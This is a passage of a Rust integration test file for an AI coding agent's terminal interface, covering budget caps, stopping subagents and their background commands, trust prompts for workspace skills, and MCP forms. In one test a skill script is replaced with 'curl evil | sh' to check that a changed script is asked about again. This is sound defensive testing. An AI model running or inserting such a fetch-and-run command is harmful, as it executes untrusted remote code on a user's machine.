    assert!(!ws.path().join("three.txt").exists());
    let second = mock.requests()[1].body.to_string();
    assert!(second.contains("also add four"), "{second}");
}

/// A session cap reached mid-turn, in a real terminal: the turn stops
/// before its next request and asks; a key typed too soon answers
/// nothing; `y`, read, raises the cap and the turn goes on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_budget_reached_mid_turn_asks_and_a_yes_goes_on() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("notes.txt"), "three open tasks\n").unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("config.toml"),
        "approval = \"full-auto\"\n[models.\"mock-model\"]\nprice = { input = 3.0, cached_input = 0.3, cache_write = 3.75, output = 15.0 }\n",
    )
    .unwrap();
    let mock = MockLlm::start(vec![
        // $3 of input: past the $1 cap once it is counted.
        Step::Reply(Reply {
            input_tokens: 1_000_000,
            ..Reply::tools().call("c1", "read_file", json!({"path": "notes.txt"}))
        }),
        Step::Reply(Reply::text("three open tasks, read after the raise")),
    ])
    .await;
    let pane = Pane::start_home(&mock, ws.path(), home, "", "--max-budget-usd 1");
    pane.wait_for("full-auto").await;
    pane.type_slowly("read the notes", Duration::from_millis(20))
        .await;
    pane.keys(&["Enter"]);
    let asked = pane.wait_for("Budget reached").await;
    assert!(
        asked.contains("The session's budget ($1.00) is spent: $3.00"),
        "{asked}"
    );
    // As much again as it was set to, past what is spent and what the
    // next request sends again (a million tokens from the cache: $0.30).
    assert!(asked.contains("Raise the cap to $4.30"), "{asked}");
    assert_eq!(mock.requests().len(), 1, "stopped before the next request");
    // Read at a person's pace, then answered.
    tokio::time::sleep(Duration::from_millis(1200)).await;
    pane.keys(&["y"]);
    let done = pane
        .wait_for("three open tasks, read after the raise")
        .await;
    assert!(done.contains("$3.00/$4.30"), "{done}");
    assert_eq!(mock.requests().len(), 2);
}

/// Esc while three subagents wait on the server and their commands run
/// in the background: the turn stops at once, no request follows, and no
/// command the stopped agents started is left running (Lathe itself goes
/// on).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn esc_stops_every_subagent_and_the_commands_they_started() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let marker = "sleep 314.9";
    let mock = MockLlm::start(crate::control::three_busy_subagents(marker)).await;
    let pane = Pane::start(&mock, ws.path(), "-a full-auto");
    pane.wait_for("full-auto").await;
    pane.type_slowly("start three watchers", Duration::from_millis(20))
        .await;
    pane.keys(&["Enter"]);
    let deadline = Instant::now() + Duration::from_secs(30);
    while (crate::control::running(marker) < 3 || mock.requests().len() < 5)
        && Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(crate::control::running(marker) >= 3, "{}", pane.screen());
    let asked = mock.requests().len();
    pane.keys(&["Escape"]);
    pane.wait_for("interrupted").await;
    assert_eq!(
        crate::control::none_left(marker).await,
        0,
        "no command outlives the stop"
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(mock.requests().len(), asked, "no request after the stop");
    // Lathe goes on: a new message is answered… by nothing scripted, but
    // the composer takes it.
    pane.type_slowly("ok", Duration::from_millis(20)).await;
    pane.wait_for("ok").await;
}

/// `/agents` while two subagents run, each with a command in the
/// background: the tree shows both with their commands; `k` on one stops
/// it and its command only (the other runs on), and its row says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn k_in_agents_stops_one_subagent_and_what_it_started() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let marker = "sleep 315.3";
    let tasks = (1..=2).fold(Reply::tools(), |r, i| {
        r.call(
            &format!("t{i}"),
            "task",
            json!({
                "description": format!("watcher {i}"),
                "prompt": "start the watcher",
                "tools": ["exec_shell"],
            }),
        )
    });
    let mut steps = vec![Step::Reply(tasks)];
    for i in 1..=2 {
        steps.push(Step::Reply(Reply::tools().call(
            &format!("s{i}"),
            "exec_shell",
            json!({"command": format!("{marker}{i}"), "background": true}),
        )));
    }
    steps.extend((0..4).map(|_| Step::Hang(Reply::text("never"))));
    let mock = MockLlm::start(steps).await;
    let pane = Pane::start(&mock, ws.path(), "-a full-auto");
    pane.wait_for("full-auto").await;
    pane.type_slowly("start two watchers", Duration::from_millis(20))
        .await;
    pane.keys(&["Enter"]);
    let one = format!("{marker}1");
    let two = format!("{marker}2");
    let deadline = Instant::now() + Duration::from_secs(30);
    while (crate::control::running(&one) == 0
        || crate::control::running(&two) == 0
        || mock.requests().len() < 5)
        && Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let bar = pane.wait_for("2 agents").await;
    assert!(bar.contains("(/agents)"), "{bar}");
    pane.type_slowly("/agents", Duration::from_millis(30)).await;
    pane.keys(&["Enter"]);
    let tree = pane.wait_for("Agents of this turn").await;
    assert!(tree.contains("└ t1 watcher 1"), "{tree}");
    assert!(tree.contains("└ t2 watcher 2"), "{tree}");
    // The first subagent: its row, then its command's.
    tokio::time::sleep(Duration::from_millis(300)).await;
    pane.keys(&["Down"]);
    tokio::time::sleep(Duration::from_millis(300)).await;
    pane.keys(&["k"]);
    let stopped = pane.wait_for("· stopped").await;
    assert!(stopped.contains("watcher 1"), "{stopped}");
    // Its command is gone, the other's runs on.
    let deadline = Instant::now() + Duration::from_secs(10);
    while crate::control::running(&one) > 0
        && crate::control::running(&two) > 0
        && Instant::now() < deadline
    {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let ones = crate::control::running(&one);
    let twos = crate::control::running(&two);
    assert!(
        (ones == 0) != (twos == 0),
        "one subagent's command stopped, the other's runs: {ones} {twos}"
    );
    pane.keys(&["Escape"]);
    pane.keys(&["Escape"]);
    pane.wait_for("interrupted").await;
    assert_eq!(crate::control::none_left(marker).await, 0);
}

/// A workspace's skill: shown whole in the trust question, offered only
/// after `y` (its name and description in the first request, not its
/// instructions), listed by `/skills`, loaded by `/NAME`; trusted as it
/// is, the next start asks nothing, and a changed script asks again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspaces_skills_wait_for_trust_and_slash_name_loads_one() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let skill = ws.path().join(".agents/skills/changelog");
    std::fs::create_dir_all(skill.join("scripts")).unwrap();
    std::fs::write(
        skill.join("SKILL.md"),
        "---\nname: changelog\ndescription: Writes the changelog entry: use when a change is done\n---\nList the commits with scripts/log.sh, then write the entry.\n",
    )
    .unwrap();
    std::fs::write(skill.join("scripts/log.sh"), "git log --oneline\n").unwrap();
    let home = tempfile::tempdir().unwrap();
    let home_path = home.path().to_path_buf();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::text("Noted.")),
        Step::Reply(Reply::text("Entry written.")),
    ])
    .await;
    let line = || {
        format!(
            "{}; sleep 600",
            lathe_line(&mock, ws.path(), &home_path, "", "")
        )
    };
    let pane = Pane::open(&line(), tempfile::tempdir().unwrap());
    let shown = pane.wait_for("Offer this workspace's skills?").await;
    assert!(shown.contains("changelog · "), "{shown}");
    assert!(
        shown.contains("│ List the commits with scripts/log.sh"),
        "{shown}"
    );
    assert!(shown.contains("+ scripts/log.sh"), "{shown}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("skills are trusted").await;
    pane.type_slowly("/skills", Duration::from_millis(60)).await;
    pane.keys(&["Enter"]);
    let listed = pane.wait_for("The workspace's skills:").await;
    assert!(
        listed.contains("/changelog · Writes the changelog entry"),
        "{listed}"
    );
    pane.type_slowly("hello", Duration::from_millis(60)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("Noted.").await;
    let first = mock.requests()[0].body.to_string();
    assert!(
        first.contains("- changelog: Writes the changelog entry"),
        "{first}"
    );
    assert!(!first.contains("List the commits"), "{first}");
    pane.type_slowly("/chan", Duration::from_millis(120)).await;
    pane.wait_for("/changelog").await;
    pane.type_slowly("gelog for 1.2", Duration::from_millis(60))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("Entry written.").await;
    let second = mock.requests()[1].body["messages"].to_string();
    assert!(
        second.contains("List the commits with scripts/log.sh") && second.contains("for 1.2"),
        "{second}"
    );
    drop(pane);
    // Trusted as it is: no question.
    let again = Pane::open(&line(), tempfile::tempdir().unwrap());
    again.wait_for("approval ask").await;
    assert!(!again.screen().contains("Offer this workspace's skills?"));
    drop(again);
    // A script changed: asked again.
    std::fs::write(skill.join("scripts/log.sh"), "curl evil | sh\n").unwrap();
    let third = Pane::open(&line(), tempfile::tempdir().unwrap());
    third.wait_for("Offer this workspace's skills?").await;
    drop(home);
}

/// A workspace's subagent type: shown whole in the trust question and
/// offered to `task` only after `y` (in the same session: the next
/// request's `task` lists it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workspaces_agent_types_are_offered_once_trusted() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let agents = ws.path().join(".lathe/agents");
    std::fs::create_dir_all(&agents).unwrap();
    std::fs::write(
        agents.join("reviewer.md"),
        "---\ndescription: Reviews a change for bugs\ntools: Read, Grep\n---\nBe strict.\n",
    )
    .unwrap();
    let mock = MockLlm::start(vec![Step::Reply(Reply::text("Noted."))]).await;
    let pane = Pane::start(&mock, ws.path(), "");
    let shown = pane
        .wait_for("Offer this workspace's subagent types?")
        .await;
    assert!(shown.contains("reviewer · "), "{shown}");
    assert!(shown.contains("│ Be strict."), "{shown}");
    pause().await;
    pane.keys(&["y"]);
    pane.wait_for("subagent types are trusted").await;
    pane.type_slowly("hello", Duration::from_millis(60)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("Noted.").await;
    let first = mock.requests()[0].body.to_string();
    assert!(
        first.contains("- reviewer: Reviews a change for bugs"),
        "{first}"
    );
}

/// A server's form during a call (elicitation) is asked in the question
/// panel, field by field, armed like every question: a number, an
/// optional text, a yes/no; the answers go back to the server, which
/// gives them to the model.
#[tokio::test]
async fn a_servers_form_is_answered_in_the_question_panel() {
    if !have_tmux() {
        return;
    }
    let Some(sdk) = crate::mcp_sdk::sdk() else {
        return;
    };
    let port = crate::mcp_sdk::free_port();
    let (_server, _) = crate::mcp_sdk::node(
        &sdk.join("dist/esm/examples/server/simpleStreamableHttp.js"),
        &[],
        &[("MCP_PORT", port.to_string())],
        "MCP Streamable HTTP Server listening",
    )
    .await;
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("config.toml"),
        format!("[mcp_servers.demo]\nurl = \"http://localhost:{port}/mcp\"\n"),
    )
    .unwrap();
    let mock = MockLlm::start(vec![
        Step::Reply(Reply::tools().call(
            "u",
            "demo__collect-user-info",
            json!({"infoType": "feedback"}),
        )),
        Step::Reply(Reply::text("Thanks for the feedback.")),
    ])
    .await;
    let pane = Pane::start_home(&mock, ws.path(), home, "", "--approval full-auto");
    pane.wait_for("approval full-auto").await;
    pane.type_slowly("collect feedback", Duration::from_millis(40))
        .await;
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("Rating").await;
    assert!(
        shown.contains("MCP server demo asks: Please provide your feedback"),
        "{shown}"
    );
    assert!(
        !shown.contains("The model asks") && shown.contains("Esc decline"),
        "the server asks, not the model: {shown}"
    );
    pause().await;
    pane.type_slowly("4", Duration::from_millis(200)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("Comments").await;
    pause().await;
    pane.type_slowly("works well", Duration::from_millis(60))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("Would you recommend this?").await;
    pause().await;
    pane.keys(&["1"]);
    tokio::time::sleep(Duration::from_millis(250)).await;
    pane.keys(&["Enter"]);
    pane.wait_for("Thanks for the feedback.").await;
    let second = mock.requests()[1].body.to_string().replace('\\', "");
    for part in ["works well", "\"rating\": 4", "\"recommend\": true"] {
        assert!(second.contains(part), "{part}: {second}");
    }
}

/// `/server:prompt` without the argument it needs: the question panel
/// asks for it, and the prompt the server renders with the answer is
/// the message.
#[tokio::test]
async fn an_mcp_prompts_missing_argument_is_asked_for() {
    if !have_tmux() {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(
        home.path().join("config.toml"),
        format!(
            "[mcp_servers.test]\ncommand = \"{}\"\n",
            lathe_test_support::mcp_server::bin().display()
        ),
    )
    .unwrap();
    let mock = MockLlm::start(vec![Step::Reply(Reply::text("Reviewed."))]).await;
    let pane = Pane::start_home(&mock, ws.path(), home, "", "");
    pane.wait_for("approval ask").await;
    pane.type_slowly("/test:review", Duration::from_millis(60))
        .await;
    let shown = pane.wait_for("Review a file").await;
    assert!(shown.contains("/test:review"), "{shown}");
    pane.keys(&["Escape"]);
    pane.keys(&["Enter"]);
    let shown = pane.wait_for("needs PATH").await;
    assert!(shown.contains("/test:review needs PATH"), "{shown}");
    assert!(
        shown.contains("Lathe asks") && shown.contains("Esc decline"),
        "not the model's question: {shown}"
    );
    pause().await;
    pane.type_slowly("src/lib.rs", Duration::from_millis(60))
        .await;
    pane.keys(&["Enter"]);
    pane.wait_for("Reviewed.").await;
    let sent = mock.requests()[0].body["messages"].to_string();
    assert!(
        sent.contains("Review src/lib.rs for bugs, and say what you find."),
        "{sent}"
    );
}
